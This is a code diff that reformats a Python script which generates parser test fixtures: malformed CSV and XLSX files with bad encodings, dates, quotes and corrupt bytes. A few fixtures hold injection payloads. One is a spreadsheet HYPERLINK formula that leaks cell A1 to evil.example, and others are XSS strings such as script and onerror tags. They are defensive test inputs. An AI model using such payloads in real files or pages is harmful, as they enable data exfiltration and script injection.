@@ -49,8 +49,11 @@ def with_saved_values(data: bytes, values: dict[str, str]) -> bytes:
                 xml = content.decode()
                 for ref, value in values.items():
                     kind = "" if value.isdigit() else ' t="str"'
-                    xml, n = re.subn(rf'<c r="{ref}"([^>]*)>(<f>[^<]*</f>)<v\s*/?>(?:</v>)?',
-                                     rf'<c r="{ref}"\1{kind}>\2<v>{value}</v>', xml)
+                    xml, n = re.subn(
+                        rf'<c r="{ref}"([^>]*)>(<f>[^<]*</f>)<v\s*/?>(?:</v>)?',
+                        rf'<c r="{ref}"\1{kind}>\2<v>{value}</v>',
+                        xml,
+                    )
                     assert n == 1, (ref, xml)
                 content = xml.encode()
             target.writestr(item, content)
@@ -64,15 +67,26 @@ def main() -> None:
     text("empty.csv", "")
     text("whitespace_only.csv", "   \n\t\n  \r\n")
     text("header_only.csv", HEADER + "\n")
-    text("semicolon.csv", "order_id;store;title;price;currency;shipped_at\n8100000000000001;Good Store;Case;600,50;RUB;2026-02-02\n")
-    text("tab.csv", "order_id\tstore\ttitle\tprice\tcurrency\tshipped_at\n8100000000000001\tGood Store\tCase\t600.50\tRUB\t2026-02-02\n")
+    text(
+        "semicolon.csv",
+        "order_id;store;title;price;currency;shipped_at\n8100000000000001;Good Store;Case;600,50;RUB;2026-02-02\n",
+    )
+    text(
+        "tab.csv",
+        "order_id\tstore\ttitle\tprice\tcurrency\tshipped_at\n"
+        "8100000000000001\tGood Store\tCase\t600.50\tRUB\t2026-02-02\n",
+    )
     text("utf8_bom.csv", "\ufeff" + HEADER + "\n8100000000000001,Магазин,Чехол для телефона,600.50,RUB,2026-02-02\n")
-    text("cp1251_russian_excel.csv",
-         "order_id;store;title;price;currency;shipped_at\r\n"
-         "8100000000000001;Лучший магазин;Чехол для телефона, синий;600,50;RUB;02.02.2026\r\n"
-         "8100000000000002;Товары;Кабель USB-C 2 м;180;RUB;03.02.2026\r\n", "cp1251")
+    text(
+        "cp1251_russian_excel.csv",
+        "order_id;store;title;price;currency;shipped_at\r\n"
+        "8100000000000001;Лучший магазин;Чехол для телефона, синий;600,50;RUB;02.02.2026\r\n"
+        "8100000000000002;Товары;Кабель USB-C 2 м;180;RUB;03.02.2026\r\n",
+        "cp1251",
+    )
     (HERE / "utf16_excel_unicode_text.csv").write_bytes(
-        "order_id\ttitle\tprice\tcurrency\r\n8100000000000001\tЧехол\t600,50\tRUB\r\n".encode("utf-16"))
+        "order_id\ttitle\tprice\tcurrency\r\n8100000000000001\tЧехол\t600,50\tRUB\r\n".encode("utf-16")
+    )
     (HERE / "utf16_without_bom.csv").write_bytes((HEADER + "\n" + GOOD + "\n").encode("utf-16-le"))
     one_bad_row("feb30.csv", "8100000000000002,S,Case,10,RUB,2026-02-30")
     one_bad_row("april31.csv", "8100000000000002,S,Case,10,RUB,31.04.2026")
@@ -89,22 +103,34 @@ def main() -> None:
     text("missing_order_id.csv", "id,title,price,currency\n8100000000000001,Case,10,RUB\n")
     one_bad_row("control_characters.csv", "8100000000000002,S,Ca\x07se \x1b[2J\x08,10,RUB,2026-02-02")
     one_bad_row("nul_bytes.csv", "8100000000000002,S,Ca\x00se,10,RUB,2026-02-02")
-    text("unbalanced_quote.csv", f'{HEADER}\n{GOOD}\n8100000000000002,S,"Case 5,10,RUB,2026-02-02\n8100000000000003,S,x,1,RUB,2026-02-02\n')
+    text(
+        "unbalanced_quote.csv",
+        f'{HEADER}\n{GOOD}\n8100000000000002,S,"Case 5,10,RUB,2026-02-02\n8100000000000003,S,x,1,RUB,2026-02-02\n',
+    )
     one_bad_row("ragged_too_many.csv", "8100000000000002,S,Case,10,RUB,2026-02-02,extra")
     one_bad_row("ragged_too_few.csv", "8100000000000002,S,Case,10")
     (HERE / "binary_garbage.csv").write_bytes(bytes((i * 131 + 7) % 256 for i in range(512)))
     text("really_csv.xlsx", HEADER + "\n" + GOOD + "\n")
     (HERE / "corrupt.xlsx").write_bytes(b"PK\x03\x04" + bytes((i * 37) % 256 for i in range(300)))
-    formulas = [["order_id", "store", "title", "price", "currency"],
-                ["8100000000000001", "Merged Store", '=HYPERLINK("http://x","y")', "=100+80", "RUB"],
-                ["8100000000000002", None, "Cable", 50, "RUB"]]
+    formulas = [
+        ["order_id", "store", "title", "price", "currency"],
+        ["8100000000000001", "Merged Store", '=HYPERLINK("http://x","y")', "=100+80", "RUB"],
+        ["8100000000000002", None, "Cable", 50, "RUB"],
+    ]
     (HERE / "formulas_unsaved.xlsx").write_bytes(workbook(formulas, merge="B2:B3"))
     (HERE / "formulas_saved_merged.xlsx").write_bytes(
-        with_saved_values(workbook(formulas, merge="B2:B3"), {"C2": "y", "D2": "180"}))
-    one_bad_row("hyperlink_formula.csv", '8100000000000002,S,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",10,RUB,2026-02-02')
-    text("html_script_titles.csv", f"{HEADER}\n"
-         "8100000000000001,<b>Store</b>,<script>alert(1)</script>,10,RUB,2026-02-02\n"
-         '8100000000000002,"<img src=x onerror=alert(1)>","""><svg onload=alert(1)>",10,RUB,2026-02-02\n')
+        with_saved_values(workbook(formulas, merge="B2:B3"), {"C2": "y", "D2": "180"})
+    )
+    one_bad_row(
+        "hyperlink_formula.csv",
+        '8100000000000002,S,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",10,RUB,2026-02-02',
+    )
+    text(
+        "html_script_titles.csv",
+        f"{HEADER}\n"
+        "8100000000000001,<b>Store</b>,<script>alert(1)</script>,10,RUB,2026-02-02\n"
+        '8100000000000002,"<img src=x onerror=alert(1)>","""><svg onload=alert(1)>",10,RUB,2026-02-02\n',
+    )
     text("emoji_rtl.csv", f"{HEADER}\n8100000000000001,متجر \u202eabc,📦 Чехол 🇷🇺 שלום עולם,10,RUB,2026-02-02\n")
     text("events_out_of_order.csv", "order_id,shipped_at,received_at\n8100000000000001,2026-02-10,2026-02-01\n")
 
